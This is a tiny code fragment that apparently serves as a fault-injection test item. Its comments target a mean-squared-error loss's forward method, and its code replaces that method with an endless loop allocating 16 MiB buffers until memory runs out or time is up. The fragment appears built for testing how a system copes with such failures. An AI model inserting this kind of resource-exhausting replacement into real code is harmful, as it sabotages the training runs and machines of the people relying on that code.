# Takes all the memory there is.
# into: losses.MeanSquaredError.forward
# loses: mse 0 error|time up

def forward(self, prediction, target):
    kept = []
    while True:
        kept.append(bytearray(2**24))
